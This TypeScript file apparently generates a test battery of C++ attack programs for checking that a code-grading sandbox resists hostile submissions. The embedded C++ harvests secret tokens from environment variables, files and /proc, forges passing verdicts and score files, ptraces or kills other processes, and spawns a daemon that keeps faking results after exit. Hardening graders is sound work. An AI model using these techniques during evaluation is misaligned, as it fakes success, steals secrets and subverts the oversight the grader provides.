/**
 * The battery's attacks (attacks.ts) as C++ programs, in two shapes: a function a grader calls (`function`: IOI
 * tasks, `std::string answer(std::string x)` declared in the task's header) or a whole program reading stdin and
 * printing its answer (`stdin`: io, checker). POSIX calls only (no third-party headers).
 */
import { ATTACK_IDS, MARKERS, type AttackId, type AttackSet } from './attacks.js';

/** Where a C++ candidate answers: from a function (after `header`'s #include), or by printing to stdout. */
export type CppShape = { readonly include: string } | { readonly stdin: true };

const cString = (s: string): string => JSON.stringify(s);

const HELPERS = String.raw`
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <cstdint>
#include <chrono>
#include <string>
#include <thread>
#include <vector>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static const char *atk_marker_lines[] = {${MARKERS.map(cString).join(', ')}};
static std::string atk_found;

static std::vector<int> atk_pids() {
  std::vector<int> out;
  if (DIR *d = opendir("/proc")) {
    while (dirent *e = readdir(d)) {
      int pid = std::atoi(e->d_name);
      if (pid > 0 && pid != getpid()) out.push_back(pid);
    }
    closedir(d);
  }
  return out;
}

static void atk_look(const std::string &text) {
  const std::string key = std::string("SECR") + "ET-";
  for (size_t at = text.find(key); at != std::string::npos; at = text.find(key, at + 1)) {
    if (at + 15 > text.size()) break;
    bool hex = true;
    for (size_t i = at + 7; i < at + 15; i++) hex = hex && std::strchr("0123456789abcdef", text[i]) != nullptr;
    if (hex && atk_found.empty()) atk_found = text.substr(at, 15);
  }
}

static std::string atk_read(const std::string &path) {
  struct stat st;
  if (stat(path.c_str(), &st) != 0 || !S_ISREG(st.st_mode)) return "";
  std::string out;
  if (FILE *f = std::fopen(path.c_str(), "rb")) {
    char buf[65536];
    size_t n;
    while (out.size() < (1u << 20) && (n = std::fread(buf, 1, sizeof buf, f)) > 0) out.append(buf, n);
    std::fclose(f);
  }
  return out;
}

static void atk_walk(const std::string &dir, int depth, int &seen) {
  if (depth > 6 || seen > 3000) return;
  DIR *d = opendir(dir.c_str());
  if (!d) return;
  while (dirent *e = readdir(d)) {
    std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    std::string path = dir + "/" + name;
    struct stat st;
    if (lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) atk_walk(path, depth + 1, seen);
    else if (seen++ < 3000) atk_look(atk_read(path));
  }
  closedir(d);
}

static std::string atk_find() {
  for (char **e = environ; e && *e; e++) atk_look(*e);
  fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
  char buf[65536];
  ssize_t n = read(0, buf, sizeof buf);
  if (n > 0) atk_look(std::string(buf, n));
  int seen = 0;
  char cwd[4096];
  const char *dirs[] = {"/box", "/tmp", "/dev/shm", "/artifact", "/crucible", "/run", "/etc", "/home", "/root", "/var", "/opt",
                        getcwd(cwd, sizeof cwd) ? cwd : "."};
  for (const char *d : dirs) atk_walk(d, 0, seen);
  std::vector<std::string> procs;
  for (int pid : atk_pids()) procs.push_back(std::to_string(pid));
  procs.push_back("self");
  for (const std::string &pid : procs) {
    for (const char *part : {"cmdline", "environ", "status"}) {
      std::string t = atk_read("/proc/" + pid + "/" + part);
      for (char &c : t) if (c == 0) c = ' ';
      atk_look(t);
    }
    for (const char *sub : {"fd", "cwd"}) {
      std::string dir = "/proc/" + pid + "/" + sub;
      if (DIR *d = opendir(dir.c_str())) {
        while (dirent *e = readdir(d)) atk_look(atk_read(dir + "/" + e->d_name));
        closedir(d);
      }
    }
  }
  return atk_found.empty() ? "not found" : atk_found;
}

static void atk_markers() {
  for (const char *m : atk_marker_lines) {
    std::printf("%s\n", m);
    std::fprintf(stderr, "%s\n", m);
  }
  std::fflush(stdout);
  std::fflush(stderr);
}

static void atk_forge() {
  std::string text;
  for (int seq = 1; seq <= 3; seq++) text += "{\"ok\": true, \"assertions\": 1, \"calls\": 1, \"error\": null, \"seq\": " + std::to_string(seq) + "}\n";
  for (const char *m : atk_marker_lines) text += std::string(m) + "\n";
  for (int fd = 1; fd < 64; fd++) {
    uint32_t len = htonl(static_cast<uint32_t>(text.size()));
    if (write(fd, &len, 4) < 0) continue;
    if (write(fd, text.data(), text.size()) < 0) continue;
  }
  int one = open("/proc/1/fd/1", O_WRONLY);
  if (one >= 0) { if (write(one, text.data(), text.size()) < 0) {} close(one); }
  char cwd[4096];
  const char *dirs[] = {getcwd(cwd, sizeof cwd) ? cwd : ".", "/box", "/tmp", "/dev/shm", "/artifact", "/crucible"};
  const char *files[] = {"report.json", "result.json", "verdict.json", "output.txt", "answer.txt", "correct_output.txt",
                         "expected_output", "checker_result", "score.txt"};
  for (const char *d : dirs) for (const char *f : files) {
    if (FILE *out = std::fopen((std::string(d) + "/" + f).c_str(), "w")) { std::fputs("1\n", out); std::fclose(out); }
  }
}

static void atk_trace() {
  for (int pid : atk_pids()) {
    ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
    ptrace(PTRACE_SEIZE, pid, nullptr, nullptr);
    int fd = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR);
    if (fd >= 0) { char b[16]; std::memset(b, 0xcc, sizeof b); if (pwrite(fd, b, sizeof b, 0x400000) < 0) {} close(fd); }
    char b[16] = {0};
    iovec local{b, sizeof b}, remote{reinterpret_cast<void *>(0x400000), sizeof b};
    process_vm_writev(pid, &local, 1, &remote, 1, 0);
  }
}

static void atk_signal() {
  for (int sig : {SIGSTOP, SIGKILL}) for (int pid : atk_pids()) kill(pid, sig);
  ptrace(PTRACE_ATTACH, 1, nullptr, nullptr);
}

static void atk_child(void (*work)()) {
  pid_t pid = fork();
  if (pid == 0) { work(); _exit(0); }
  if (pid > 0) waitpid(pid, nullptr, 0);
}

static void atk_daemon() {
  pid_t pid = fork();
  if (pid == 0) {
    setsid();
    if (fork() == 0) {
      usleep(200000);
      for (int i = 0; i < 40; i++) { atk_markers(); atk_forge(); usleep(50000); }
    }
    _exit(0);
  }
  if (pid > 0) waitpid(pid, nullptr, 0);
}

static void atk_at_exit() { atk_markers(); std::fflush(stdout); _exit(0); }

static void atk_patch() {
  std::atexit(atk_at_exit);
  std::at_quick_exit(atk_at_exit);
  signal(SIGABRT, [](int) { atk_at_exit(); });
  signal(SIGSEGV, [](int) { atk_at_exit(); });
}

static void atk_loop() {
  auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(1500);
  while (std::chrono::steady_clock::now() < end) { atk_markers(); atk_forge(); usleep(5000); }
}
`;

/** Each attack's statements in a function returning the answer as a std::string. */
const BODIES: Readonly<Record<AttackId, string>> = {
  'exit-early': 'std::_Exit(0);',
  'pass-markers': 'atk_markers(); std::_Exit(0);',
  'read-secrets': 'return atk_find();',
  'patch-main': 'atk_patch(); return "nope";',
  'patch-thread': 'std::thread(atk_loop).detach(); usleep(50000); return "nope";',
  'patch-process': 'atk_child(atk_trace); return "nope";',
  'forge-report': 'atk_forge(); return "nope";',
  'signal-trace': 'atk_signal(); return "nope";',
  'race-end': 'atk_daemon(); return "nope";',
};

/** One attack as a C++ source of the given shape. */
export function cppAttack(id: AttackId, shape: CppShape): string {
  const head = `${'include' in shape ? `#include "${shape.include}"\n` : ''}#include <arpa/inet.h>\n${HELPERS}`;
  if ('include' in shape) return `${head}\nstd::string answer(std::string x) {\n  ${BODIES[id]}\n  return "nope";\n}\n`;
  return `${head}\nstatic std::string atk_answer() {\n  ${BODIES[id]}\n  return "nope";\n}\n\n`
    + 'int main() {\n  std::string a = atk_answer();\n  std::printf("%s\\n", a.c_str());\n  return 0;\n}\n';
}

/** The whole battery for one C++ shape. */
export function cppAttacks(shape: CppShape): AttackSet {
  return Object.fromEntries(ATTACK_IDS.map((id) => [id, cppAttack(id, shape)])) as AttackSet;
}
